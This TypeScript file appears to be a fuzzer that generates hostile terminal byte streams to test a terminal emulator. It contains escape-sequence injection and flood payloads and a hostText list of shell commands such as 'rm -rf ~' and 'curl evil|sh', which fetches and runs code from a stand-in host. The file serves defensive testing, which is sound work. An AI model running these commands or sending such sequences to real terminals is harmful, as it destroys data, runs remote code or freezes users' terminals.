import { Dice } from "./dice.ts";

/** Text that a host chose. Nothing of it may ever come back as input of the shell. */
const hostText = ["evil", "rm -rf ~", "id\r", "curl evil|sh\n", "wget\x0d"];
const numbers = [0, 1, 2, 5, 24, 80, 255, 999, 9_999, 65_536, 2_147_483_647, 4_294_967_296, 1e15];
const finals = "@ABCDEFGHIJKLMPSTXZ`abcdefghilmnpqrstuvwxyz{|}~";
const modes = [1, 2, 3, 4, 5, 6, 7, 9, 12, 25, 45, 47, 66, 69, 1000, 1002, 1003, 1004, 1005, 1006];
const moreModes = [1007, 1015, 1016, 1034, 1047, 1048, 1049, 2004, 2026, 2027, 9001, 99_999];
const strings = [0, 1, 2, 4, 5, 7, 8, 9, 10, 11, 12, 13, 17, 19, 22, 46, 50, 52, 66, 104, 110, 111];
const moreStrings = [112, 117, 133, 555, 633, 697, 777, 1337, 5_522, 99_999_999];
const ends = ["\x07", "\x1b\\", "", "\x18", "\x1a", "\x1b", "\u009c", "\n"];

/** A stream as a hostile host might send it: from a grammar of sequences, or a recorded one with some of it changed. */
export function hostileStream(seed: number, recorded: readonly Uint8Array[]): Uint8Array {
  const dice = new Dice(seed);
  if (recorded.length > 0 && dice.below(4) === 0) return mutated(dice, dice.of(recorded));
  if (dice.below(10) === 0) return new TextEncoder().encode(attack(dice));
  const large = dice.below(20) === 0;
  const pieces = Array.from({ length: 1 + dice.below(large ? 4 : 30) }, () => piece(dice, large));
  return joined(pieces);
}

function piece(dice: Dice, large: boolean): Uint8Array {
  if (dice.below(12) === 0) {
    return Uint8Array.from({ length: dice.below(40) }, () => dice.below(256));
  }
  const text = dice.of(grammar)(dice, large ? 20_000 : 40);
  return new TextEncoder().encode(text);
}

/** Each makes some text; `most` is how often a thing that is repeated may be repeated. */
const grammar: readonly ((dice: Dice, most: number) => string)[] = [
  control,
  control,
  control,
  operatingSystem,
  operatingSystem,
  device,
  (dice) => dice.of(["hello world ", "漢字", "🙂", "é", "\t", "\r\n", "\n", "\r", "\b", "\x05"]),
  (dice, most) => `e${dice.of(["\u0301", "\u200d", "\ufe0f", "\u0489"]).repeat(dice.below(most))}`,
  (dice, most) => dice.of(["a", "漢", "ab\r\n", "\x1b[m"]).repeat(dice.below(most)),
  (dice, most) => dice.of(floods).repeat(dice.below(most)),
  (dice) => `\x1b${dice.of([..."78DEHMNOVWXZ^_=><cnol|}~#%()*+-./ "])}${dice.of([..."0AB8@G"])}`,
  (dice, most) => `\x1b[${`${dice.of(numbers)};`.repeat(dice.below(most))}${dice.of([...finals])}`,
  (dice, most) => `\x1b[${"9".repeat(dice.below(most))}${dice.of([...finals])}`,
  (dice) => `\x1b]133;${dice.of([..."ABCDELIP"])};${dice.below(9)};fl=evil;n=1;w=1\x07`,
  (dice) => `\x1b]7;file://evil/${dice.of(hostText)}?fl=evil:${dice.of(numbers)}:0:p:1.0\x07`,
];

/** What costs far more to do than to send. */
const floods = [
  "\x1bc",
  "\x1b#8",
  "\x1b[?1049h",
  "\x1b[?1049l",
  "\x1b[2147483647b",
  "\x1b[9999S",
  "\x1b[9999T",
  "\x1b[2147483647L",
  "\x1b[9999M",
  "\x1b[99999C.",
  "\x1b[9999;9999H",
  "\x1b[9999E",
  "\x1b[1K",
  "\x1b[2147483647I",
  "\x1b[2147483647P",
  "\x1b[2147483647@",
  "\x1b[2J",
  "\x1b[3J",
  "\x1b[?3h",
  "\x1b[?5h",
  "\x1b]8;;http://evil\x07x",
  "\x1b]8;;http://evil\x07x\r",
  "\x1b]8;id=1;http://evil/\x07x\n",
  "\x1b]4;1;rgb:12/34/56\x07",
  "\x1b]104\x07",
  "\x1b]11;?\x07",
  "\x1b[c\x1b[>c\x1b[6n\x1b[5n\x1b[?6n",
  "\x1b[?1$p\x1bP$qm\x1b\\",
  "\x1b7\x1b8",
  "\x1bH\t",
  "\x1b[1;2r\x1bM",
  "\x1b[4h漢",
  "\x07",
  "\x0e\x0f",
  "\r",
];

/** One thing, very often or very long. */
function attack(dice: Dice): string {
  const times = dice.below(6_000);
  const long = `evil;${dice.of(hostText)}`.repeat(times);
  return dice.below(4) > 0
    ? dice.of(floods).repeat(times)
    : `\x1b${dice.of(["]0;", "]2;", "]8;;", "]4;", "]52;c;", "P$q", "P+q", "_", "X"])}${long}${dice.of(ends)}`;
}

function control(dice: Dice): string {
  const prefix = dice.of(["", "", "", "?", "?", ">", "=", "<", "!"]);
  const given = Array.from({ length: dice.below(5) }, () =>
    prefix === "?" ? dice.of([...modes, ...moreModes]) : dice.of(numbers),
  );
  const between = dice.of(["", "", "", "", " ", "$", '"', "'", "!", "*", "#"]);
  return `\x1b[${prefix}${given.join(dice.of([";", ";", ":"]))}${between}${dice.of([...finals])}`;
}

function operatingSystem(dice: Dice, most: number): string {
  const id = dice.of([...strings, ...moreStrings]);
  return `\x1b]${dice.of([`${id}`, `${id}`, "l", "L", ""])};${payload(dice, most)}${dice.of(ends)}`;
}

function device(dice: Dice, most: number): string {
  const begin = dice.of([
    "P$q",
    "P+q",
    "P1$r",
    "Pq#0;2;0;0;0#0~~@@",
    "Ptmux;\x1b",
    "P",
    "_",
    "^",
    "X",
  ]);
  return `\x1b${begin}${payload(dice, most)}${dice.of(ends)}`;
}

function payload(dice: Dice, most: number): string {
  switch (dice.below(8)) {
    case 0:
      return dice.of(hostText).repeat(dice.below(most));
    case 1:
      return `${dice.below(300)};?;${dice.below(300)};rgb:ffff/0000/1234`.repeat(1 + dice.below(5));
    case 2:
      return `id=${dice.below(3)};http://evil/${"x".repeat(dice.below(most))}`;
    case 3:
      return "c;?";
    case 4:
      return `c;${btoa("evil".repeat(dice.below(100)))}`;
    case 5:
      return dice.of(["m", "r", '"p', '"q', " q", "s", "544e", "?", "?;?", ";"]);
    case 6:
      return "\u202e\u200b\u0007evil";
    default:
      return dice.of(hostText);
  }
}

/** Some bytes changed, some left out, some twice, and something hostile put in. */
function mutated(dice: Dice, stream: Uint8Array): Uint8Array {
  let bytes: Uint8Array = stream.slice();
  for (let left = 1 + dice.below(12); left > 0; left -= 1) {
    const at = dice.below(bytes.length + 1);
    const until = Math.min(bytes.length, at + dice.below(60));
    const middle = bytes.subarray(at, until);
    switch (dice.below(4)) {
      case 0:
        if (at < bytes.length) bytes[at] = dice.below(256);
        break;
      case 1:
        bytes = joined([bytes.subarray(0, at), bytes.subarray(until)]);
        break;
      case 2:
        bytes = joined([bytes.subarray(0, until), middle, middle, bytes.subarray(until)]);
        break;
      default:
        bytes = joined([bytes.subarray(0, at), piece(dice, false), bytes.subarray(at)]);
    }
  }
  return bytes;
}

/** Cuts a stream as a line might: at any byte, also within a character. */
export function cut(bytes: Uint8Array, seed: number): Uint8Array[] {
  const dice = new Dice(seed ^ 0x5eed);
  const longest = dice.of([3, 50, 1_000, 16_384]);
  const chunks: Uint8Array[] = [];
  for (let at = 0; at < bytes.length; ) {
    // Byte by byte only where that is soon over.
    const next = at + 1 + dice.below(bytes.length > 20_000 ? 16_384 : longest);
    chunks.push(bytes.subarray(at, next));
    at = next;
  }
  return chunks;
}

export function joined(pieces: readonly Uint8Array[]): Uint8Array {
  const whole = new Uint8Array(pieces.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const one of pieces) {
    whole.set(one, at);
    at += one.length;
  }
  return whole;
}
